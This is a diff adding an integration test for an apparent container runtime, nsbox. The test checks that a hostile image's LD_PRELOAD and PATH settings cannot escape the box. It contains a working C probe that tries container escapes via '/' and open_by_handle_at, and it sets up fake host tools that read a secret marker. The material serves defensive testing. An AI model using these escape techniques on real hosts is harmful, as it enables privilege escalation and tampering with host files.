@@ -1,0 +1,161 @@
+// Integration (root), threat class "the image's environment" (SECURITY.md): an image whose Env sets LD_PRELOAD
+// (to a probe in the image, and to the same probe by its host path in the layer store) and a PATH that names a
+// directory of fake host tools in the layer store. The probe reports its capabilities and, wherever it runs, tries
+// to read a host-only marker, create a file next to the victim and append to a sacrificial host binary: through
+// "/" (in the host's mount namespace) and through open_by_handle_at(2) from a bind-mounted host file (the way out
+// of a box for a process that still holds CAP_DAC_READ_SEARCH). It must run only in the box's command, after the
+// capability drop and no_new_privs, in `run` and in `exec` (-e too); the fake tools must never run.
+
+import { test } from 'uvu';
+import * as assert from 'uvu/assert';
+import { existsSync, mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { nsbox, isRoot, type Result } from '../helpers/nsbox.js';
+import { packTar, sha256, writeDockerSave, type FixtureEntry } from './image-fixtures.js';
+import { assertVictimIntact, binaryEntry, compile, cString, fingerprint, hasGcc, makeVictim, treeEntries, type Victim } from './containment-fixtures.js';
+
+const skipReason = !isRoot ? 'needs root' : !existsSync('/bin/busybox') ? 'needs /bin/busybox (apt-get install busybox-static)' : !hasGcc ? 'needs gcc (apt-get install gcc libc6-dev)' : undefined;
+
+const base = mkdtempSync(join(tmpdir(), 'nsbox-contain-env-'));
+const root = join(base, 'store');
+const ENV: NodeJS.ProcessEnv = { ...process.env, NSBOX_ROOT: root, NSBOX_STATE: join(base, 'state'), NSBOX_IMAGE_NETWORK: 'none' };
+const cli = (args: string[]): Result => nsbox(args, { env: ENV, timeoutMs: 60_000 });
+/** Docker's default bounding set without CAP_MKNOD: what a default box's command holds. */
+const BOX_CAPS = '00000000a00425fb';
+let victim: Victim;
+
+/** The probe: a constructor that reports, then attacks the victim through "/" and through a file handle. */
+function probeSource(v: Victim): string {
+  const rel = (p: string) => cString(p.slice(1));
+  return `#define _GNU_SOURCE
+#include <fcntl.h>
+#include <stdio.h>
+#include <string.h>
+#include <unistd.h>
+static void field(const char *key, char *out, int n) {
+  char buf[4096] = {0}; int fd = open("/proc/self/status", O_RDONLY); if (fd < 0) return;
+  read(fd, buf, sizeof buf - 1); close(fd);
+  char *p = strstr(buf, key); if (!p) return; p += strlen(key);
+  while (*p == ' ' || *p == '\\t') p++;
+  int i = 0; while (p[i] && p[i] != '\\n' && i < n - 1) { out[i] = p[i]; i++; } out[i] = 0;
+}
+static void attack(int root, const char *how) {
+  char buf[256] = {0}, name[512];
+  int fd = openat(root, ${rel(v.marker)}, O_RDONLY);
+  if (fd >= 0) { read(fd, buf, sizeof buf - 1); close(fd); dprintf(2, "PROBE-LEAK %s %s", how, buf); }
+  snprintf(name, sizeof name, "%s/pwned-%s", ${rel(v.dir)}, how);
+  fd = openat(root, name, O_WRONLY | O_CREAT, 0644);
+  if (fd >= 0) { write(fd, buf, strlen(buf)); close(fd); dprintf(2, "PROBE-WROTE %s\\n", how); }
+  fd = openat(root, ${rel(v.binary)}, O_WRONLY | O_APPEND);
+  if (fd >= 0) { write(fd, "x", 1); close(fd); dprintf(2, "PROBE-BINARY %s\\n", how); }
+}
+__attribute__((constructor)) static void probe(void) {
+  char exe[256] = {0}, cap[32] = "?", nnp[8] = "?";
+  readlink("/proc/self/exe", exe, sizeof exe - 1);
+  field("CapEff:", cap, sizeof cap); field("NoNewPrivs:", nnp, sizeof nnp);
+  dprintf(2, "PROBE exe=%s capeff=%s nnp=%s\\n", exe, cap, nnp);
+  int slash = open("/", O_PATH | O_DIRECTORY);
+  if (slash >= 0) { attack(slash, "direct"); close(slash); }
+  int mfd = open("/etc/hostname", O_RDONLY);
+  struct { unsigned int bytes; int type; unsigned char h[8]; } fh = { 8, 1, { 2, 0, 0, 0, 0, 0, 0, 0 } };
+  int hroot = mfd < 0 ? -1 : open_by_handle_at(mfd, (void *)&fh, O_RDONLY | O_DIRECTORY);
+  if (hroot >= 0) { attack(hroot, "handle"); close(hroot); }
+}
+`;
+}
+
+/** A fake host tool in the layer store: it would run as host root if nsbox looked tools up in the box's PATH. */
+const fakeTool = (v: Victim, name: string): FixtureEntry => ({
+  name: `hijack/${name}`,
+  mode: 0o755,
+  content: `#!/bin/sh\necho "$0" > ${v.dir}/pwned-path-${name}; cat ${v.marker} >&2\nexec /usr/bin/${name} "$@"\n`,
+});
+
+const probeLines = (out: string): string[] => out.split('\n').filter((l) => l.startsWith('PROBE'));
+
+/** Every probe report: in the box's command only, capabilities dropped, no_new_privs; no attack got through. */
+function assertProbeConfined(out: string, what: string): void {
+  const lines = probeLines(out);
+  assert.ok(lines.length > 0, `${what}: the probe ran (LD_PRELOAD does reach the command): ${out}`);
+  for (const line of lines) {
+    assert.match(line, /^PROBE exe=\S+ capeff=\S+ nnp=\S+$/, `${what}: an attack got through: ${line}`);
+    assert.ok(line.includes(`capeff=${BOX_CAPS} nnp=1`), `${what}: the probe ran in a privileged process: ${line}`);
+    assert.ok(line.startsWith('PROBE exe=/bin/probe-cmd '), `${what}: the probe ran in a process other than the command: ${line}`);
+  }
+}
+
+test.before(async () => {
+  if (skipReason) return;
+  victim = makeVictim(base);
+  const r = cli(['image', 'import', '--from-host-busybox', 'busybox']);
+  assert.is(r.code, 0, r.stderr);
+  const busyboxFs = (JSON.parse(cli(['image', 'inspect', 'busybox']).stdout) as { lowerDirs: string[] }).lowerDirs[0]!;
+  compile(probeSource(victim), join(base, 'probe.so'), ['-shared', '-fPIC']);
+  compile('#include <stdio.h>\nint main(void) { puts("COMMAND ran"); return 0; }\n', join(base, 'probe-cmd'), []);
+  const entries: FixtureEntry[] = [
+    ...treeEntries(busyboxFs),
+    binaryEntry('probe.so', join(base, 'probe.so')),
+    binaryEntry('bin/probe-cmd', join(base, 'probe-cmd')),
+    { name: 'lib/x86_64-linux-gnu/', type: 'directory' },
+    binaryEntry('lib/x86_64-linux-gnu/libc.so.6', '/lib/x86_64-linux-gnu/libc.so.6'),
+    { name: 'lib64/', type: 'directory' },
+    binaryEntry('lib64/ld-linux-x86-64.so.2', '/lib64/ld-linux-x86-64.so.2'),
+    { name: 'hijack/', type: 'directory' },
+    ...['nsenter', 'setpriv', 'unshare', 'chroot', 'env', 'mount', 'sh'].map((n) => fakeTool(victim, n)),
+  ];
+  // The layer's directory in the store is named by its digest: the image's Env can name host paths inside it.
+  const layerFs = join(root, 'layers', sha256(await packTar(entries)).slice(7), 'fs');
+  const Env = [`LD_PRELOAD=/probe.so:${layerFs}/probe.so`, `PATH=${layerFs}/hijack:/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin`];
+  const file = join(base, 'hostile.tar');
+  await writeDockerSave(file, { layers: [entries], config: { Env, Cmd: ['/bin/probe-cmd'] } });
+  const imported = cli(['image', 'import', file, 'hostile-env']);
+  assert.is(imported.code, 0, imported.stderr);
+  assert.ok(existsSync(join(layerFs, 'probe.so')) && existsSync(join(layerFs, 'hijack', 'nsenter')), 'the Env names real host files in the layer store');
+});
+
+test.after(() => {
+  if (!skipReason) cli(['rm', '-f', 'envbox']);
+  rmSync(base, { recursive: true, force: true });
+});
+
+test('run: an image Env LD_PRELOAD reaches only the command, after the capability drop and no_new_privs', async () => {
+  if (skipReason) return console.log(`SKIP: ${skipReason}`);
+  const before = fingerprint(victim);
+  const r = cli(['run', '--rm', 'hostile-env']);
+  const out = `${r.stdout}${r.stderr}`;
+  assert.is(r.code, 0, out);
+  assert.match(r.stdout, /COMMAND ran/);
+  assertProbeConfined(r.stderr, 'run');
+  await assertVictimIntact(victim, before, out, [join(root, 'containers')], 'run');
+});
+
+test('exec: host tools never see the box\'s environment (PATH, LD_PRELOAD); -e too is applied only to the command', async () => {
+  if (skipReason) return console.log(`SKIP: ${skipReason}`);
+  const before = fingerprint(victim);
+  const started = cli(['run', '-d', '--name', 'envbox', 'hostile-env', '/bin/busybox', 'sleep', '600']);
+  assert.is(started.code, 0, started.stderr);
+  let seen = '';
+  try {
+    const plain = cli(['exec', 'envbox', '/bin/probe-cmd']);
+    seen += plain.stdout + plain.stderr;
+    assert.is(plain.code, 0, seen);
+    assert.match(plain.stdout, /COMMAND ran/);
+    assertProbeConfined(plain.stderr, 'exec');
+    const flagged = cli(['exec', '-e', 'LD_PRELOAD=/probe.so', '-e', 'PATH=/bin', '-w', '/tmp', 'envbox', 'probe-cmd']);
+    seen += flagged.stdout + flagged.stderr;
+    assert.is(flagged.code, 0, seen);
+    assertProbeConfined(flagged.stderr, 'exec -e');
+    // stop, kill and rm read the same record: none of them may run anything from it either
+    for (const args of [['kill', '--signal', 'CONT', 'envbox'], ['stop', '-t', '1', 'envbox'], ['rm', 'envbox']]) {
+      const r = cli(args);
+      seen += r.stdout + r.stderr;
+      assert.is(r.code, 0, `${args.join(' ')}: ${r.stderr}`);
+    }
+  } finally {
+    cli(['rm', '-f', 'envbox']);
+  }
+  await assertVictimIntact(victim, before, seen, [join(root, 'containers')], 'exec');
+});
+
+test.run();
